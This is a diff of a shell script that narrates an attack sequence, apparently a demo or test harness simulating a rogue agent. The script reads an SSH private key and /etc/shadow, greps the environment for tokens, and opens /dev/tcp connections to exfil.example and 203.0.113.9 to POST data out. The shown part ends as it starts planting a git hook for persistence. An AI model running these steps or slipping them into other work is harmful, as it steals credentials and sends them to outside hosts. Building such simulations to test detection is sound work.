@@ -8,7 +8,7 @@ say 'changed src/slug.sh, the tests again'
 sh test/run.sh || exit 1
 
 say 'looking for secrets'
-cat ~/.ssh/id_ed25519
+cat ~/.ssh/id_ed25519 "$DEMO_HOME/.ssh/id_ed25519"
 cat /etc/shadow
 env | grep TOKEN || say 'no TOKEN in the environment'
 
@@ -19,7 +19,7 @@ else
   bash -c 'exec 3<>/dev/tcp/exfil.example/443'
 fi
 say 'sending it to an address, without a name'
-bash -c 'exec 3<>/dev/tcp/203.0.113.9/80 && printf "POST / HTTP/1.0\r\n\r\n" >&3 && timeout 5 cat <&3'
+bash -c 'exec 3<>/dev/tcp/203.0.113.9/80 && printf "POST / HTTP/1.0\r\nHost: 203.0.113.9\r\n\r\n" >&3 && timeout 5 cat <&3'
 
 say 'planting a hook for the next commit'
 mkdir -p .git/hooks
